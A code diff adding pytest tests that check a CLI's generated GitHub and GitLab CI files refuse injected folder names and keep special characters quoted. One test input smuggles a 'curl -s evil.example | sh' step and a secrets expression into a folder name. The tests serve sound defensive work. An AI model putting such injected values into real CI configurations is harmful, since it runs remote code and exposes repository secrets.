@@ -121,3 +121,28 @@ def test_wrong_requests_are_usage_errors(ministry: Path, tmp_path: Path, extra: 
         expected = "is not inside the repository"
     result = CliRunner().invoke(main, ["network", "ci", "--root", str(ministry), *extra])
     assert result.exit_code == 2 and expected in result.stderr
+
+
+@pytest.mark.parametrize("folder", ["ministry\n      - run: curl -s evil.example | sh", "a${{ secrets.TOKEN }}b",
+                                    "tab\there", "line\u2028separator"])
+def test_a_folder_name_that_would_add_a_step_or_an_expression_is_refused(folder: str) -> None:
+    for make in (github_workflow, gitlab_ci):
+        with pytest.raises(ValueError, match="cannot go into a CI file"):
+            make(folder, 2, INSTALL)
+        with pytest.raises(ValueError, match="cannot go into a CI file"):
+            make("ministry", 2, f"pip install legation {folder}")
+
+
+@pytest.mark.parametrize("folder", ["ministry # one", "a: b", "it's here", "dir with spaces", "$HOME"])
+def test_a_folder_name_with_yaml_or_shell_characters_stays_one_argument(tmp_path: Path, folder: str) -> None:
+    for system, make in (("github", github_workflow), ("gitlab", gitlab_ci)):
+        text = make(folder, 2, INSTALL)
+        validate(text, system, tmp_path)
+        data = yaml.safe_load(text)
+        steps = [s.get("run", "") for s in data["jobs"]["build"]["steps"]] if system == "github" else \
+            data["build-network"]["script"]
+        [build] = [step for step in steps if step.startswith("legation network build")]
+        import shlex
+
+        words = shlex.split(build)
+        assert words[words.index("--root") + 1] == folder  # the shell gets the folder as one word, unexpanded
